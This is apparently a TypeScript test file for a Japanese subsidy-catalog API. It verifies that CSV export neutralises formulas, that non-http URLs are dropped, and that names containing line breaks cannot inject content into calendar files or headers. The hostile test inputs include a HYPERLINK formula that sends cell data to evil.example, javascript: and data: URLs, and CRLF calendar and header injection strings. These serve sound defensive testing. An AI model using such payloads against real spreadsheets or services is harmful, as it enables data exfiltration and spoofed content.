// Text from outside, shown somewhere else (issue 24, L1 and L2): a CSV cell
// never starts a spreadsheet formula whatever its type; only http(s) URLs
// are kept from sources (the jGrants mapping, the dataset's loader); a name
// a caller stores is one line, so it cannot write lines of its own into a
// calendar (.ics) or a mail header.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { build, body, tempDir } from '../helper.ts';
import { ingest } from '../../src/ingest/ingest.ts';
import { CATALOG_PLAN } from '../../src/ingest/plan.ts';
import { csvCell, csvLine } from '../../src/exports/encode.ts';
import { columnsOf } from '../../src/exports/columns.ts';
import { mapDetail } from '../../src/sources/jgrants/map.ts';
import type { JgrantsDetail } from '../../src/sources/jgrants/shape.ts';
import { jgrantsRecord } from '../fakes/jgrants-server.ts';
import { generateApiKey } from '../../src/access/keys.ts';
import { Type } from 'typebox';

test('a CSV cell never starts a formula, whatever the type of its value (L1)', () => {
  const hyperlink = '=HYPERLINK("https://evil.example/?d="&A1,"詳細")';
  const row = { primary_name: hyperlink, funding_purpose: [hyperlink, '設備投資'], extra: { '=cmd': 1 }, amount: -3, note: '@SUM(A1)' };
  const columns = columnsOf(
    Type.Object({
      primary_name: Type.String(),
      funding_purpose: Type.Array(Type.String()),
      extra: Type.Record(Type.String(), Type.Number()),
      amount: Type.Number(),
      note: Type.String(),
    }),
  );
  const cells = csvLine(columns, row)
    .trimEnd()
    .match(/("([^"]|"")*"|[^,]*)(,|$)/g)!
    .map((c) => c.replace(/,$/, '').replace(/^"|"$/g, '').replace(/""/g, '"'))
    .filter((_, i, all) => i < all.length - 1 || all[i] !== '');
  assert.equal(cells.length, 5, JSON.stringify(cells));
  for (const cell of [cells[0], cells[1], cells[4]]) assert.ok(cell.startsWith("'"), `inert: ${cell}`);
  assert.equal(cells[3], '-3', 'a number stays a number');
  assert.ok(csvCell(['=1+1'], 'list').startsWith("'="), 'a list cell');
  assert.ok(csvCell(['+1', 'x'], 'list').startsWith("'+"));
  assert.equal(csvCell(['a', '=b'], 'list'), 'a | =b', 'only the first character counts');
  assert.equal(csvCell(-3), '-3');
  assert.equal(csvCell('-3'), "'-3", 'text that looks like a formula is text');
});

test('only http(s) URLs are kept from jGrants; others are dropped with a warning (L1)', () => {
  for (const url of ['javascript:alert(document.cookie)', 'data:text/html,<script>x</script>', '//evil.example/x', 'vbscript:x']) {
    const r = mapDetail(jgrantsRecord('x1', '補助金A', { front_subsidy_detail_page_url: url }) as unknown as JgrantsDetail);
    assert.ok(r.ok);
    assert.equal(r.fields.official_url, null, url);
    assert.ok(
      r.warnings.some((w) => /not an http\(s\) URL/.test(w)),
      url,
    );
  }
  const ok = mapDetail(jgrantsRecord('x2', '補助金B', { front_subsidy_detail_page_url: ' https://www.example.go.jp/hojo ' }) as unknown as JgrantsDetail);
  assert.ok(ok.ok);
  assert.equal(ok.fields.official_url, 'https://www.example.go.jp/hojo');
});

test('a stored name with a line break or another control character is refused, everywhere a name is stored (L2)', async (t) => {
  const app = await build(t, { OUTBOUND_ALLOW_PRIVATE: 'true' });
  const k = generateApiKey();
  await app.state.keys.create({ keyHash: k.hash, prefix: k.prefix, tier: 'free', customerId: null });
  const headers = { 'x-api-key': k.key };
  const injected = 'x\r\nEND:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:偽のお知らせ';
  for (const name of [injected, 'a\nb', 'tab\there', 'nul\u0000', 'del\u007f', 'next\u0085line', 'sep\u2028x']) {
    const saved = await app.inject({ method: 'POST', url: '/v1/me/saved_searches', headers, payload: { name, query: { prefecture: '東京都' } } });
    assert.equal(saved.statusCode, 400, `${JSON.stringify(name)}: ${saved.body}`);
    assert.match(body(saved).detail, /name: must be one line of text, without control characters/);
  }
  const subscribe = await app.inject({ method: 'POST', url: '/v1/subscribers', payload: { email: 'a@example.jp', search: { name: injected, query: {} } } });
  assert.equal(subscribe.statusCode, 400, subscribe.body);
  const hook = await app.inject({
    method: 'POST',
    url: '/v1/me/webhooks',
    headers,
    payload: { url: 'http://127.0.0.1:9/x', events: ['program.created'], description: 'ok\r\nX-Injected: 1' },
  });
  assert.equal(hook.statusCode, 400, hook.body);
  const advisor = await app.inject({
    method: 'POST',
    url: '/v1/advisors/signup',
    payload: { firm_name: '税理士法人\nテスト', firm_type: '税理士法人', specialties: ['補助金'], prefecture: '東京都', contact_email: 'a@example.jp' },
  });
  assert.equal(advisor.statusCode, 400, advisor.body);

  // A one-line name is stored, and its calendar holds exactly one calendar.
  const good = await app.inject({
    method: 'POST',
    url: '/v1/me/saved_searches',
    headers,
    payload: { name: '東京都の補助金 (2026)', query: { prefecture: '東京都' } },
  });
  assert.equal(good.statusCode, 201, good.body);
  const ics = await app.inject({ url: `/v1/calendar/deadlines.ics?saved_search_id=${body(good).id}`, headers });
  assert.equal(ics.statusCode, 200, ics.body.slice(0, 200));
  assert.equal(ics.body.match(/^END:VCALENDAR/gm)?.length, 1);
});

test('the dataset loader keeps only http(s) URLs: a javascript: official_url is not stored, so never served (L1)', async (t) => {
  const src = tempDir(t);
  const out = tempDir(t);
  const program = (id: string, extra: Record<string, unknown>) =>
    JSON.stringify({ unified_id: id, primary_name: `制度 ${id}`, tier: 'B', prefecture: '北海道', amount_max_man_yen: 100, ...extra });
  writeFileSync(
    path.join(src, 'programs.jsonl'),
    `${[
      program('UNI-js', { official_url: 'javascript:alert(1)', source_url: 'data:text/html,x' }),
      program('UNI-ok', { official_url: 'https://www.example.go.jp/a', source_url: 'http://www.example.lg.jp/b' }),
    ].join('\n')}\n`,
  );
  writeFileSync(path.join(src, 'exclusion_rules.jsonl'), '');
  const report = await ingest({ plan: CATALOG_PLAN, datasetDir: src, dataDir: out });
  const db = new DatabaseSync(report.catalogPath, { readOnly: true });
  const rows = db.prepare('SELECT unified_id, official_url, source_url FROM programs ORDER BY unified_id').all();
  db.close();
  assert.deepEqual(
    rows.map((r) => ({ ...r })),
    [
      { unified_id: 'UNI-js', official_url: null, source_url: null },
      { unified_id: 'UNI-ok', official_url: 'https://www.example.go.jp/a', source_url: 'http://www.example.lg.jp/b' },
    ],
  );
});
